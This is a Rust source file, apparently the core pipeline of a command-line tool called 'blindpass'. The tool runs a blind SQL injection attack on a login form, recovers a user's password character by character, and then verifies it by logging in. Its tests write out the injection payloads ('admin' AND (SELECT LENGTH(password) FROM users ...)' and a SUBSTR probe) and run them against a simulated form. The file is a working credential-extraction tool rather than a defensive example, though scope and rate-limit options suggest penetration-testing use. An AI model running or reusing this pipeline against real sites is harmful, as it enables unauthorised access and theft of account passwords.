//! Extraction pipeline
//!
//! START -> LENGTH_DISCOVERY -> ABORT (no length) | EXTRACTION -> VERIFICATION -> DONE

use crate::core::context::Context;
use crate::core::rate_limit::RateLimiter;
use crate::extract::{self, ConsoleProgress, ProgressSink, SilentProgress};
use crate::http::{HttpClient, Transport};
use crate::oracle::HttpOracle;
use crate::reporting::{self, model::ExtractionReport, model::Outcome, model::Verification};
use crate::verify::verify_login;
use std::time::Instant;

pub struct Engine {
    ctx: Context,
    client: HttpClient,
}

impl Engine {
    pub fn new(ctx: Context) -> anyhow::Result<Self> {
        let limiter = RateLimiter::new(ctx.rate_limit);
        let client = HttpClient::new(ctx.scope.clone(), limiter)?;
        Ok(Self { ctx, client })
    }

    /// Run the pipeline, print the report, and write it to the output file if one is set
    pub async fn run(&self) -> anyhow::Result<ExtractionReport> {
        let progress: &dyn ProgressSink = if self.ctx.quiet {
            &SilentProgress
        } else {
            &ConsoleProgress
        };

        let report = run_pipeline(&self.client, &self.ctx, progress).await?;
        let rendered = reporting::render(&report, self.ctx.output_format)?;

        println!("\n{}", rendered);

        if let Some(path) = &self.ctx.output_file {
            std::fs::write(path, &rendered)
                .map_err(|e| anyhow::anyhow!("Failed to write report to {}: {}", path, e))?;
            tracing::info!(path = %path, "report written");
        }

        Ok(report)
    }
}

/// Drive length discovery, extraction and verification over `transport`
pub async fn run_pipeline<T: Transport>(
    transport: &T,
    ctx: &Context,
    progress: &dyn ProgressSink,
) -> anyhow::Result<ExtractionReport> {
    let start = Instant::now();
    let oracle = HttpOracle::new(
        transport,
        ctx.target.clone(),
        ctx.template.clone(),
        &ctx.failure_marker,
    );

    tracing::info!(target = %ctx.target, username = ctx.username(), "starting length discovery");
    let length = match extract::discover_length(&oracle, ctx.max_length, progress).await? {
        Some(length) => length,
        None => {
            return Ok(ExtractionReport {
                target: ctx.target.to_string(),
                username: ctx.username().to_string(),
                outcome: Outcome::LengthNotFound,
                length: None,
                password: None,
                unknown_positions: Vec::new(),
                verification: Verification::Skipped,
                requests: oracle.requests(),
                elapsed_ms: start.elapsed().as_millis(),
            });
        }
    };

    tracing::info!(length, "starting character extraction");
    let extraction = extract::extract_chars(&oracle, length, &ctx.alphabet, progress).await?;
    let mut requests = oracle.requests();

    let (outcome, verification) = if extraction.is_complete() {
        progress.verification_started();
        let verified = verify_login(
            transport,
            &ctx.target,
            ctx.username(),
            &extraction.value,
            &ctx.success_marker,
        )
        .await?;
        requests += 1;
        progress.verification_finished(verified);
        (Outcome::Complete, Verification::from(verified))
    } else {
        tracing::warn!(
            unknown = extraction.unknown_positions.len(),
            "partial extraction, skipping verification"
        );
        (Outcome::Partial, Verification::Skipped)
    };

    Ok(ExtractionReport {
        target: ctx.target.to_string(),
        username: ctx.username().to_string(),
        outcome,
        length: Some(length),
        password: Some(extraction.value),
        unknown_positions: extraction.unknown_positions,
        verification,
        requests,
        elapsed_ms: start.elapsed().as_millis(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cli::args::Cli;
    use crate::http::{HttpRequest, HttpResponse};
    use clap::Parser;
    use std::sync::atomic::{AtomicUsize, Ordering};

    /// Login form that answers injected conditions from a stored password.
    ///
    /// It only understands the default payload shapes, which is enough to drive
    /// the whole pipeline without a network.
    struct FakeLogin {
        password: String,
        accept_real_login: bool,
        requests: AtomicUsize,
    }

    impl FakeLogin {
        fn new(password: &str) -> Self {
            Self {
                password: password.to_string(),
                accept_real_login: true,
                requests: AtomicUsize::new(0),
            }
        }

        fn evaluate(&self, username: &str) -> bool {
            let length_prefix =
                "admin' AND (SELECT LENGTH(password) FROM users WHERE username='admin')=";
            let char_prefix =
                "admin' AND SUBSTR((SELECT password FROM users WHERE username='admin'), ";

            if let Some(rest) = username.strip_prefix(length_prefix) {
                let n = rest.trim_end_matches(" --");
                return n.parse::<usize>().ok() == Some(self.password.chars().count());
            }

            if let Some(rest) = username.strip_prefix(char_prefix) {
                let Some((pos, literal)) = rest.split_once(", 1)='") else {
                    return false;
                };
                let Some(literal) = literal.strip_suffix("' --") else {
                    return false;
                };
                let Ok(pos) = pos.parse::<usize>() else {
                    return false;
                };
                let unescaped = literal.replace("''", "'");
                if unescaped.contains('\'') && unescaped.len() == literal.len() {
                    // unbalanced quote: SQL error
                    return false;
                }
                return pos >= 1
                    && self.password.chars().nth(pos - 1).map(|c| c.to_string())
                        == Some(unescaped);
            }

            false
        }
    }

    impl Transport for FakeLogin {
        async fn execute(&self, req: HttpRequest) -> anyhow::Result<HttpResponse> {
            self.requests.fetch_add(1, Ordering::Relaxed);
            let username = req.form_field("username").unwrap_or_default();
            let password = req.form_field("password").unwrap_or_default();

            let ok = if username == "admin" {
                self.accept_real_login && password == self.password
            } else {
                self.evaluate(&username)
            };

            if ok {
                Ok(HttpResponse::from_text(200, "<h1>Hello, admin!</h1>"))
            } else {
                Ok(HttpResponse::from_text(200, "Invalid username or password"))
            }
        }
    }

    fn context(args: &[&str]) -> Context {
        let mut argv = vec!["blindpass"];
        argv.extend_from_slice(args);
        Context::from_cli(Cli::try_parse_from(argv).unwrap()).unwrap()
    }

    #[tokio::test]
    async fn test_full_pipeline_recovers_and_verifies() {
        let login = FakeLogin::new("letme99i");
        let report = run_pipeline(&login, &context(&[]), &SilentProgress)
            .await
            .unwrap();

        assert_eq!(report.outcome, Outcome::Complete);
        assert_eq!(report.length, Some(8));
        assert_eq!(report.password.as_deref(), Some("letme99i"));
        assert_eq!(report.verification, Verification::Verified);
        assert_eq!(report.requests, login.requests.load(Ordering::Relaxed));
    }

    #[tokio::test]
    async fn test_rejected_verification_is_only_a_warning() {
        let mut login = FakeLogin::new("abc");
        login.accept_real_login = false;

        let report = run_pipeline(&login, &context(&[]), &SilentProgress)
            .await
            .unwrap();

        assert_eq!(report.outcome, Outcome::Complete);
        assert_eq!(report.password.as_deref(), Some("abc"));
        assert_eq!(report.verification, Verification::Rejected);
    }

    #[tokio::test]
    async fn test_aborts_when_length_out_of_range() {
        let login = FakeLogin::new("toolong");
        let report = run_pipeline(&login, &context(&["--max-length", "5"]), &SilentProgress)
            .await
            .unwrap();

        assert_eq!(report.outcome, Outcome::LengthNotFound);
        assert_eq!(report.password, None);
        assert_eq!(report.requests, 5);
    }

    #[tokio::test]
    async fn test_partial_extraction_skips_verification() {
        let login = FakeLogin::new("a'b");
        let report = run_pipeline(&login, &context(&[]), &SilentProgress)
            .await
            .unwrap();

        assert_eq!(report.outcome, Outcome::Partial);
        assert_eq!(report.password.as_deref(), Some("a?b"));
        assert_eq!(report.unknown_positions, vec![2]);
        assert_eq!(report.verification, Verification::Skipped);
    }
}
